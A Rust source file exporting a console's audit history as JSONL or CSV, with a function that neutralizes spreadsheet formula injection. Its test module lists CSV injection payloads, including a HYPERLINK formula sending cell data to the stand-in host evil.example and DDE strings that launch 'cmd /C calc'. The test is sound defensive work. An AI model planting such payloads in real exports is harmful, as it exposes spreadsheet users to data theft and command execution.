//! History exports: every row with its hashes and signed tokens, as exact JSONL or as CSV safe to
//! open in a spreadsheet.

use std::io::Write;
use std::path::PathBuf;

use crate::history::{Filter, Row};
use crate::{Console, ConsoleError, Result};

/// Export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    /// One JSON object per line.
    Jsonl,
    /// RFC 4180 CSV with a header, for spreadsheets: written by the `csv` crate, and every cell a
    /// spreadsheet would run as a formula is neutralized by a leading `'` (see [`csv_cell`]).
    Csv,
}

impl ExportFormat {
    /// Parse `jsonl` or `csv`.
    pub fn parse(s: &str) -> Result<Self> {
        match s {
            "jsonl" => Ok(ExportFormat::Jsonl),
            "csv" => Ok(ExportFormat::Csv),
            other => Err(ConsoleError::Invalid(format!("unknown export format {other:?} (jsonl or csv)"))),
        }
    }
}

/// A CSV cell a spreadsheet will not evaluate (OWASP "CSV Injection"): a cell starting with `=`,
/// `+`, `-`, `@`, TAB or CR — or their full-width forms, which some spreadsheets read as the same —
/// gets a leading single quote, so it is shown as the text it is. Every other cell is unchanged;
/// quoting, embedded quotes and newlines are the CSV writer's business.
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}') => {
            format!("'{s}").into()
        }
        _ => s.into(),
    }
}

/// `rows` as CSV with a header, for reading in a spreadsheet or a terminal: every cell through
/// [`csv_cell`]; hidden characters (controls, bidi, invisible) made visible — in `detail` as JSON
/// `\u` escapes, so it is still the same JSON value. The exact stored bytes are in the JSONL export.
pub fn write_csv(rows: &[Row], out: &mut impl Write) -> Result<()> {
    let bad = |e: csv::Error| ConsoleError::Invalid(format!("writing the export: {e}"));
    let mut w = csv::Writer::from_writer(out);
    w.write_record(["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]).map_err(bad)?;
    for r in rows {
        let text = |s: &str| crate::display::visible(s).0;
        let (seq, at) = (r.seq.to_string(), r.at.to_string());
        let (kind, ep, id) =
            (text(&r.kind), text(r.ep.as_deref().unwrap_or("")), text(r.request_id.as_deref().unwrap_or("")));
        let detail = crate::display::json_safe(&r.detail);
        let cells =
            [seq.as_str(), at.as_str(), &kind, &ep, &id, &detail, &text(&r.prev_hash), &text(&r.hash)];
        w.write_record(cells.map(csv_cell).iter().map(|c| c.as_bytes())).map_err(bad)?;
    }
    w.flush().map_err(|e| ConsoleError::Invalid(format!("writing the export: {e}")))?;
    Ok(())
}

impl Console {
    /// Write the whole history, oldest first, with every column (including the original signed
    /// tokens held in `detail` and the chain hashes) — everything an auditor needs. JSONL is exact
    /// (hidden characters inside strings are written as `\u` escapes: the same values, safe on a
    /// terminal); CSV is for spreadsheets, formula cells neutralized ([`csv_cell`]).
    pub async fn export_history(&self, format: ExportFormat, out: &mut impl Write) -> Result<usize> {
        let mut rows = self.history(&Filter::default()).await?;
        rows.reverse();
        let io = |e: std::io::Error| ConsoleError::Invalid(format!("writing the export: {e}"));
        match format {
            ExportFormat::Csv => write_csv(&rows, out)?,
            ExportFormat::Jsonl => {
                for r in &rows {
                    let line = serde_json::to_string(r).map_err(|e| ConsoleError::Invalid(e.to_string()))?;
                    writeln!(out, "{}", crate::display::json_safe(&line)).map_err(io)?;
                }
            }
        }
        Ok(rows.len())
    }

    /// Export into `<profile>/exports/history-<time>.<format>`; the path written.
    pub async fn export_history_file(&self, format: &str) -> Result<PathBuf> {
        let format_ = ExportFormat::parse(format)?;
        let dir = self.profile().dir.join("exports");
        std::fs::create_dir_all(&dir)
            .map_err(|e| ConsoleError::Invalid(format!("creating {}: {e}", dir.display())))?;
        let path = dir.join(format!("history-{}.{format}", crate::now()));
        let mut file = std::io::BufWriter::new(
            std::fs::File::create(&path)
                .map_err(|e| ConsoleError::Invalid(format!("creating {}: {e}", path.display())))?,
        );
        self.export_history(format_, &mut file).await?;
        file.flush().map_err(|e| ConsoleError::Invalid(e.to_string()))?;
        Ok(path)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Hostile cells come back from a CSV parser as text starting with `'`; quoting, quotes and
    /// newlines round-trip; ordinary cells are untouched.
    #[test]
    fn csv_export_neutralizes_formulas_and_round_trips() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
        ];
        let row = |seq: i64, kind: &str, ep: &str, id: &str, detail: &str| Row {
            seq,
            at: 1_795_651_200,
            kind: kind.into(),
            ep: Some(ep.into()),
            request_id: Some(id.into()),
            detail: detail.into(),
            prev_hash: "sha256:prev".into(),
            hash: "sha256:this".into(),
        };
        let detail_of = |h: &str| serde_json::json!({ "statement": h }).to_string();
        let mut rows: Vec<Row> = hostile
            .iter()
            .enumerate()
            .map(|(i, h)| row(i as i64 + 1, "request received", h, h, &detail_of(h)))
            .collect();
        let tricky = "a, \"quoted\"\nsecond line\r\nthird\u{9b}";
        rows.push(row(99, "request received", "ep-plain", "req,1", &detail_of(tricky)));
        let mut out = Vec::new();
        write_csv(&rows, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        assert_eq!(
            reader.headers().unwrap(),
            vec!["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]
        );
        let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert_eq!(records.len(), rows.len());
        for (rec, h) in records.iter().zip(hostile) {
            // A CR is made visible (`<U+000D>=1+1` starts with `<`); every other one keeps its text.
            let expected =
                if h.starts_with('\r') { h.replacen('\r', "<U+000D>", 1) } else { format!("'{h}") };
            for col in [3, 4] {
                assert_eq!(&rec[col], expected, "column {col} of {h:?} is neutralized text");
            }
            assert_eq!(&rec[2], "request received");
            let detail: serde_json::Value = serde_json::from_str(&rec[5]).unwrap();
            assert_eq!(detail["statement"], *h, "the detail cell is the same JSON");
        }
        let last = &records[hostile.len()];
        assert_eq!((&last[0], &last[3], &last[4]), ("99", "ep-plain", "req,1"));
        assert!(!last[5].contains('\u{9b}'), "hidden characters in detail are JSON escapes");
        let detail: serde_json::Value = serde_json::from_str(&last[5]).unwrap();
        assert_eq!(detail["statement"], tricky, "quoting, quotes and newlines round-trip");
        assert_eq!(&last[7], "sha256:this");
    }
}
